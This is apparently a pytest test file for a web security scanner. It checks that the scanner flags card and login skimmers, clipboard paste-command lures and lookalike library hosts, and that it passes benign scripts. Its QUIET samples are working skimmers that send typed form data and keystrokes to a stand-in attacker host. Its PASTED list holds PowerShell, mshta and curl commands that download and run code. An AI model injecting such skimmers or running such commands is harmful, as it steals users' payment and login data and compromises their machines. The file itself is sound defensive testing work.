"""What scripts take and send, give to be run, or bring along: beside honest ones alike."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.reading import b64
from tests.checks.content.scripting import CARD, EVIL, LOGIN, in_file, on_page

QUIET = [
    # Through a socket, by the address of a style sheet, and without a look at the answer.
    (
        "var a=new WebSocket('wss://jahat.example/c');document.addEventListener('"
        "input',function(e){"
        "a.send(e.target.name+e.target.value)},true)"
    ),
    (
        "(function(w,d,u){var s=new WebSocket(u);d.addEventListener('change',e=>{var t=e.target;"
        "s.send(t.value)})})(window,document,'wss://jahat.example/')"
    ),
    (
        "q=function(s){return document.querySelectorAll(s)};addEventListener('pag"
        "ehide',function(){var z="
        "[];q('input[name]').forEach(m=>z.push(m.value));var l=document.createEle"
        "ment('link');l.rel="
        f"'stylesheet';l.href='{EVIL}/css?f='+btoa(z);document.head.appendChild(l)}})"
    ),
    (
        "b.onclick=function(){var r={};document.querySelectorAll('form.bayar inpu"
        "t').forEach(function(x){"
        f"r[x.name]=x.value}});var h=new XMLHttpRequest;h.open('POST','{EVIL}/r',!"
        f"1);h.send(btoa(r))}}"
    ),
    (
        "var k=[];document.addEventListener('keydown',e=>k.push(e.target.name+e.k"
        "ey));setInterval(()=>{var "
        f"x=new XMLHttpRequest;x.open('POST',atob('{b64(EVIL + '/r')}'));x.send(k)}},9e3)"
    ),
]
HONEST_QUIET = [
    # A chat, by its own field; a search; a login at a firm's that waits for the answer.
    (
        "var s=new WebSocket('wss://obrolan.example/');i.onkeydown=function(e){if(e.key==='Enter'){"
        "s.send(i.value);i.value=''}}"
    ),
    (
        "c.addEventListener('input',function(){var x=new XMLHttpRequest;x.onload="
        "tampil;x.open('GET',"
        "'https://cari.example/?q='+c.value);x.send()})"
    ),
    (
        "f.onsubmit=function(){var h=new XMLHttpRequest;h.onreadystatechange=masuk;h.open('POST',"
        "'https://sso.example/masuk');h.send(new FormData(f))}"
    ),
    (
        "document.querySelectorAll('input[type=checkbox]').forEach(function(x){x."
        "onchange=function(){var h="
        "new XMLHttpRequest;h.open('POST','https://pilih.example/p');h.send(x.id)}})"
    ),
    (
        "document.querySelectorAll('form.cari input').forEach(function(x){x.oninput=saring});"
        "fetch('https://cuaca.example/kini').then(r=>r.json()).then(tampil)"
    ),
    (
        "var l=document.createElement('link');l.rel='stylesheet';l.href='https://"
        "fonts.example/css?family='"
        "+nama;document.head.appendChild(l)"
    ),
]


@pytest.mark.parametrize("page", [LOGIN, CARD])
@pytest.mark.parametrize("source", QUIET)
def test_what_is_typed_and_sent_by_other_ways(source: str, page: str) -> None:
    assert on_page(source, page).message == "skimmer"
    assert in_file(source, page).message == "skimmer"


@pytest.mark.parametrize("page", [LOGIN, CARD])
@pytest.mark.parametrize("source", HONEST_QUIET)
def test_what_honest_pages_send_beside_a_login(source: str, page: str) -> None:
    assert on_page(source, page).outcome is Outcome.PASS


PASTED = [
    'powershell -w h -c "iwr jahat.example/v | iex"',
    "powershell -e SQBFAFgA",
    "mshta jahat.example/h.hta && certutil -f",
    "cmd /c curl jahat.example/a.bat -o a.bat",
    "PowerShell -WindowStyle Hidden -File a.ps1",
]


@pytest.mark.parametrize("command", PASTED)
def test_commands_for_the_visitor(command: str) -> None:
    assert on_page(f"c.onclick=()=>navigator.clipboard.writeText('{command}')").message == "paste"


@pytest.mark.parametrize(
    "command", ["powershell Get-NetAdapter", "cmd /c ipconfig /all", "ipconfig /flushdns", "php -v"]
)
def test_commands_that_fetch_nothing(command: str) -> None:
    copied = on_page(f"c.onclick=()=>navigator.clipboard.writeText('{command}')")
    assert copied.outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("host", "path", "message"),
    [
        ("jquery-min.example", "/jquery.min.php?c=1", "smuggled"),
        ("cloudflare-js.example", "/a.aspx", "smuggled"),
        ("cdn.jquery-libcdn.example", "/a.js", "look"),
        ("jquery-min.example", "/jquery.min.js?from=a.php", "look"),
    ],
)
def test_a_vendor_s_library_from_a_program(host: str, path: str, message: str) -> None:
    page = f'<script src="https://{host}{path}"></script>'
    assert on_page("", page).message == message
